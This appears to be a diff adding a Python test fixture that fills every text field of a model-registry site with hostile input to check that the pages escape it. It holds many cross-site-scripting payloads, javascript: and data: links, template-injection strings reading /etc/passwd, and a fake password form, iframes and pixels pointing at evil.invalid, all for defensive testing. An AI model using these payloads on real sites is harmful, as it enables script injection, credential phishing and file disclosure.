@@ -1,0 +1,104 @@
+"""Texts that strangers write to make a page do what they want, and a market whose every text is one of them."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+
+from tests.site.market import (
+    DIGITS,
+    MODEL_BYTES,
+    Market,
+    artifact,
+    claim,
+    failing,
+    manifest,
+    market,
+    passing,
+    publisher,
+)
+from tooling.model.release import ReleaseName
+from tooling.registry.parsed import digest_of
+from tooling.verify.judged import Judged
+
+HIT = "window.hit=1;alert(1)"
+RLO, PDI, LRI, ZWSP = "\u202e", "\u2069", "\u2066", "\u200b"
+
+HTML = b"<script>alert(1)</script>"
+
+# Each stands in every field that takes one line of free text.
+LINES = {
+    "script": f"<script>{HIT}</script>",
+    "end-of-tag": f"\"'></a></title></script></textarea></style><script>{HIT}</script>",
+    "attribute": f"\" onmouseover=\"{HIT}\" autofocus onfocus=\"{HIT}\" x=\"",
+    "single-quotes": f"' onload='{HIT}' style='position:fixed;inset:0' x='",
+    "image": f"<img src=x onerror=\"{HIT}\"><img src=https://evil.invalid/pixel.png>",
+    "svg": f"<svg onload=\"{HIT}\"><animate onbegin=\"{HIT}\" attributeName=x></svg><math><mtext><style><img src=x onerror={HIT}>",
+    "frame": "<iframe src=https://evil.invalid/></iframe><object data=https://evil.invalid/></object><base href=https://evil.invalid/>",
+    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'><link rel=stylesheet href=https://evil.invalid/a.css>",
+    "form": "<form action=https://evil.invalid/><input name=password><button>Sign in</button></form>",
+    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} @@content@@ @@head@@",
+    "comment": f"--><!--><script>{HIT}</script><!--<![CDATA[<script>{HIT}</script>]]>",
+    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt; &#x3c;img src=x onerror={HIT}&#x3e;",
+    "bidi": f"safe{RLO}evil{PDI}{LRI} {ZWSP}invisible\u00ad \ufeff\U000e0041",
+    "long": "Donaudampfschifffahrtsgesellschaft" * 8,
+    "wide": "W" * 299,
+    "zalgo": "Z" + "\u0351\u0352\u0353" * 60,
+    "rtl": "مرحبا <b>بالعالم</b> \"onclick=1",
+}
+MARKDOWN = [
+    f"[click](javascript:{HIT})",
+    f"[click](JaVaScRiPt:{HIT}) [tab](java\tscript:alert(1)) [entity](java&#115;cript:alert(1))",
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:x) [file](file:///etc/passwd)",
+    f"<javascript:{HIT}> <https://example.org/\"onmouseover=\"{HIT}>",
+    f"![pixel](https://evil.invalid/pixel.png) ![x](x\" onerror=\"{HIT})",
+    f"[title](https://example.org \"' onmouseover='{HIT}\")",
+    "[up](../../index.html) [root](/login) [host](//evil.invalid/x) [here](#content)",
+    f"[ref]: javascript:{HIT}\n\n[ref]",
+    f"<div onclick=\"{HIT}\" style=\"position:fixed;inset:0\">cover</div>",
+    "# One\n\n##### Five\n\n###### Six\n\nSetext\n===",
+    f"```html\"><script>{HIT}</script>\n</code></pre><script>{HIT}</script>\n```",
+    f"| a | b |\n|---|---|\n| <img src=x onerror={HIT}> | `<script>` |",
+    "&#8238;drow eht&#8237; &#0; &#x200b;",
+    "- " * 30 + "deep\n\n" + "> " * 60 + "deeper",
+    "`" + "x" * 4000 + "`\n\n" + "y" * 4000 + "\n\n    " + "z" * 4000,
+]
+
+
+def hostile(folder: Path) -> Market:
+    """Make a market in which every publisher's text attacks the page."""
+    releases = tuple(_release(name, line) for name, line in LINES.items())
+    hidden = (
+        failing(ReleaseName(LINES["image"], LINES["script"], "not-a-version"), "HA006", LINES["script"]),
+        failing(ReleaseName("..", "..", LINES["bidi"]), LINES["script"], LINES["image"]),
+        failing(ReleaseName("evil", "hidden-one", "1.0.0"), "HA001", LINES["script"]),
+    )
+    found = market((*releases, *hidden), folder)
+    (folder / "index.html").write_bytes(HTML)
+    artifacts = {**found.carried.artifacts, digest_of(HTML): folder / "index.html"}
+    return replace(found, carried=replace(found.carried, artifacts=artifacts))
+
+
+def _release(name: str, line: str) -> Judged:
+    by = publisher(f"evil-{name}", line, about=line)
+    text = "\n\n".join((line, *MARKDOWN))
+    release = manifest(
+        by,
+        f"evil-{name}",
+        title=line,
+        summary=line,
+        description=text,
+        artifacts=[
+            artifact("model.onnx", MODEL_BYTES, locations=["https://example.org/&%22;alert(1)?a=1&lt"]),
+            artifact("index.html", HTML, "data", "text"),
+        ],
+        inputs=[{"name": line, "type": "float32", "shape": ["batch", 64], "meaning": line}],
+        outputs=[{"name": line, "type": "int64", "shape": [], "meaning": line}],
+        claims=[claim(DIGITS, "accuracy", -1e300)],
+        lineage=[{"relation": "finetuned-from", "name": line, "version": line, "url": "https://example.org/&lt;"}],
+        training={"data": line, "code": "https://example.org/`${1}`"},
+        use={"intended": text, "limitations": text, "risks": text, "out_of_scope": text},
+        compliance={"personal_data": line, "export": line},
+        contact={"email": "a@b?body=x&subject=y'", "url": "https://example.org/javascript:alert(1)"},
+    )
+    return passing(by, release)
